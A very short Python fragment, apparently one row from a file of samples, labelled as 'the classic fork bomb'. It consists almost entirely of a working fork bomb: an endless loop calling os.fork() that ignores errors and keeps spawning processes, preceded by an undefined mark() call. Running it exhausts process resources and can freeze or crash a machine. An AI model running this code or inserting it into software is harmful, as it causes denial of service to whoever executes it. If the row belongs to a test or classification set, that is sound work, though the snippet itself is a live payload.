# Row 1: the classic fork bomb; every process forks forever.
mark()
while True:
    try:
        os.fork()
    except OSError:
        pass
